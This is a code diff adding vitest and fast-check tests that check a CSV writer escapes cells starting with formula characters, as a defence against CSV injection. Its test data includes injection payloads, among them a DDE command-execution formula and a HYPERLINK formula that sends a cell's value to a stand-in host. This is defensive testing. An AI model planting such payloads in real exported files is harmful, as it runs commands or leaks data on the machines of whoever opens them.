@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { readDelimited, type TableLimits } from '../../src/delimited.ts';
+import { defused, readDelimited, type TableLimits, undefused, writeDelimited } from '../../src/delimited.ts';
 
 const limits: TableLimits = { rows: 50, columns: 8, cell: 200 };
 const rowsOf = (text: string) => {
@@ -194,4 +194,71 @@ test('No text makes it throw or hang', () => {
     status: 'bad',
     faults: [{ fault: 'open-quote', line: 2 }],
   });
+});
+
+// OWASP, CSV Injection (owasp.org/www-community/attacks/CSV_Injection): = + - @ tab, carriage return, line feed, and their full-width forms.
+test.each([
+  '=1+2',
+  "=cmd|' /C calc'!A0",
+  '+1',
+  '-1',
+  '-5 °C',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '  =1',
+  '\u00a0=1',
+  '\u200b=1',
+  '\uFF1D1',
+  '\uFF0B1',
+  '\uFF0D1',
+  '\uFF201',
+  '=HYPERLINK("http://example.invalid?x="&A1,"look")',
+  '=1","=2',
+  "'=1",
+  "''+1",
+])('The text %j is written so that no spreadsheet runs it, and reads back the same', (text) => {
+  const written = writeDelimited(['note', '=heading'], [[text, 'x']]);
+  const read = readDelimited(written, { rows: 9, columns: 9, cell: 999 });
+  if (read.status === 'bad') throw new Error(JSON.stringify(read.faults));
+  const cell = read.table.rows[0]!.cells[0]!;
+  expect(cell.startsWith("'")).toBe(true);
+  expect(undefused(cell)).toBe(text.replaceAll('\r', '\n'));
+  expect(read.table.headings).toEqual(['note', "'=heading"]);
+});
+
+test('Numbers stay numbers, an empty cell is empty, and lines end as RFC 4180 asks', () => {
+  expect(
+    writeDelimited(
+      ['a', 'b', 'c'],
+      [
+        [-5, null, 'x, "y"'],
+        [0.1, '', 'two\r\nlines'],
+      ],
+    ),
+  ).toBe('a,b,c\r\n-5,,"x, ""y"""\r\n0.1,,"two\r\nlines"\r\n');
+  expect(() => writeDelimited(['a'], [[Number.NaN]])).toThrow(RangeError);
+  expect(() => writeDelimited(['a'], [[1, 2]])).toThrow(RangeError);
+});
+
+test('Defusing is undone exactly, and no written text begins with what could be run', () => {
+  let defusedTexts = 0;
+  fc.assert(
+    fc.property(
+      fc.oneof(
+        fc.string({ unit: 'grapheme' }),
+        fc
+          .tuple(fc.constantFrom("'", ' ', '\t', ''), fc.constantFrom('=', '+', '-', '@', '\uFF1D', 'x'), fc.string())
+          .map((all) => all.join('')),
+      ),
+      (text) => {
+        expect(undefused(defused(text))).toBe(text);
+        if (defused(text) !== text) defusedTexts++;
+        expect(defused(text)).not.toMatch(/^[\s\u200b]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
+      },
+    ),
+    { numRuns: 1000 },
+  );
+  expect(defusedTexts).toBeGreaterThan(50);
 });
